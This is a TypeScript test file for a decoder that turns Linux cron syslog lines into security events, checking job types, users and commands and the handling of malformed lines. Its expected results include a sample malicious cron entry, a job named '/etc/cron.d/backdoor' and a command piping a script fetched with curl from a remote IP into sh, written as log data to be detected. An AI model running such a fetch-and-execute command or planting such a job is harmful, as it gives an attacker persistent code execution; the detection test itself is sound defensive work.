import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { eventOf, expectNeverThrows, expectSound, syslogInput } from "../test-input.ts";
import { decoder } from "./decoder.ts";

const read = (name: string): readonly string[] =>
  readFileSync(new URL(`samples/${name}`, import.meta.url), "utf8")
    .split("\n")
    .filter((line) => line !== "");

const lines = read("cron.log");

/** By sample line: type, status, and what matters most. */
const expected: readonly (readonly unknown[])[] = [
  [100_606, undefined, "root", "cd / && run-parts --report /etc/cron.hourly"],
  [300_299, 1, undefined, undefined],
  [300_202, 1, undefined, undefined],
  [100_699, undefined, "alice", "crontab of alice"],
  [100_602, undefined, "alice", "crontab of alice"],
  [100_699, undefined, "alice", "crontab of alice"],
  [100_699, undefined, "www-data", "crontab of www-data"],
  [100_699, 2, "mallory", "crontab of mallory"],
  [100_602, undefined, undefined, "/etc/cron.d/backdoor"],
  [100_606, undefined, "www-data", "curl -s http://198.51.100.77/x.sh | sh"],
  [0, undefined, undefined, undefined],
  [100_603, undefined, "alice", "crontab of alice"],
  [0, undefined, undefined, undefined],
];

describe("linux-cron", () => {
  it("reads jobs and changes of tables, line by line", () => {
    const rows = lines.map((line) => {
      const event = eventOf(decoder.decode(syslogInput(line)));
      expectSound(event);
      return [event.type_uid, event.status_id, event.job?.user?.name, event.job?.name];
    });
    expect(rows).toEqual(expected);
  });

  it("answers malformed lines, the empty one with a reason", () => {
    const [empty, ...rest] = read("malformed.log").map((line) => decoder.decode(syslogInput(line)));
    expect(empty).toMatchObject({ kind: "undecodable", code: "DECODE_RECORD_EMPTY" });
    for (const outcome of rest) expect(outcome.kind).toBe("decoded");
  });

  it("never throws", () => {
    expectNeverThrows(decoder, lines, syslogInput);
  });
});
